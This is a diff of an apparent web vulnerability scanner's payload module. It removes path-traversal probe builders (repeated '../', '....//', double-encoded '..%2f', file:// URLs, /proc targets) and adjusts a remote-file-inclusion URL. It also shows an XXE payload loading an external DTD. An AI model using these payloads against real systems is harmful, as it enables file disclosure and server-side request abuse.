@@ -83,45 +83,15 @@ export const CODE: readonly (Reckoning & { readonly tried: 'anywhere' | 'shown' 
   { flavour: 'Ruby text', tried: 'text', with: (v, a, b) => inQuotes(v, `+(${a}*${b}).to_s+`), expected: plain },
 ]
 
-/** Deeper than applications lie: where one lies deeper still, the way ends in a folder that is not there. */
-const LEVELS = 12
-const UP = '../'.repeat(LEVELS)
-
-/** Ways to a file of the machine. `path` begins with a slash. */
-export const PATHS: readonly {
-  readonly flavour: string
-  /** 'deep': only where the value or the name speaks of files; 'apart': then, too, but not in a group of headers and cookies. */
-  readonly tried: 'always' | 'deep' | 'apart'
-  readonly with: (v: string, path: string) => string
-}[] = [
-  // Begins at the root and behind any folder alike.
-  { flavour: '/../', tried: 'always', with: (_v, path) => `/${UP}${path.slice(1)}` },
-  { flavour: '../', tried: 'deep', with: (_v, path) => `${UP}${path.slice(1)}` },
-  { flavour: '../ behind the value', tried: 'apart', with: (v, path) => `${v}/${UP}${path.slice(1)}` },
-  {
-    flavour: '../ behind its folder',
-    tried: 'apart',
-    with: (v, path) => `${v.replace(/[^/]*$/, '')}${UP}${path.slice(1)}`,
-  },
-  {
-    flavour: '….//, for filters that cut once',
-    tried: 'apart',
-    with: (_v, path) => `${'....//'.repeat(LEVELS)}${path.slice(1)}`,
-  },
-  {
-    flavour: '../ encoded twice',
-    tried: 'apart',
-    with: (_v, path) => `${'..%2f'.repeat(LEVELS)}${path.slice(1).replaceAll('/', '%2f')}`,
-  },
-  { flavour: 'file address', tried: 'apart', with: (_v, path) => `file://${path}` },
-]
-
-/** Our address with numbers for what its answer becomes where it is run; an address alone to everything else. */
-export const inclusion = (url: string, a: number, b: number): string => `${url}q.php?a=${a}&b=${b}`
+/**
+ * Our address with numbers for what its answer becomes where it is run; an address alone to everything else. What the
+ * application puts behind it becomes the value of a third parameter.
+ */
+export const inclusion = (url: string, a: number, b: number): string => `${url}q.php?a=${a}&b=${b}&c=`
 
 /** What running the answer to that address shows; null where the text is another. */
 export const included = (payload: string): string | null => {
-  const [, a, b] = /q\.php\?a=(\d+)&b=(\d+)$/.exec(payload) ?? []
+  const [, a, b] = /q\.php\?a=(\d+)&b=(\d+)&c=$/i.exec(payload) ?? []
   return a && b ? `qv${Number(a) * Number(b)}vq` : null
 }
 
@@ -211,17 +181,6 @@ export const callingEntity =
     const type = `<!DOCTYPE q [<!ENTITY % r SYSTEM "${url}q.dtd"><!ENTITY q SYSTEM "${url}q">%r;]>`
     return { ...request, body: `${declaration}${type}${rest}` }
   }
-
-/**
- * Everyone may read these, and they tell no more than which system it is. They are the kernel's own (proc(5)): whatever the
- * place does with a name, nobody can write, empty, rename or delete them, root included, nor make a file beside them, as
- * NO_FILE would be.
- */
-export const FILES: readonly { readonly path: string; readonly shows: RegExp }[] = [
-  { path: '/proc/version', shows: /Linux version \d+\.\d+[^\n]{0,80}/ },
-  { path: '/proc/filesystems', shows: /\bnodev\s+(?:sysfs|proc|tmpfs|devtmpfs|cgroup2?)\b/ },
-]
-export const NO_FILE = '/proc/versioq'
 
 /** The document with an entity that is a file, and a reference to it where the value stood. */
 export const withEntity = (body: string, path: string): string => {
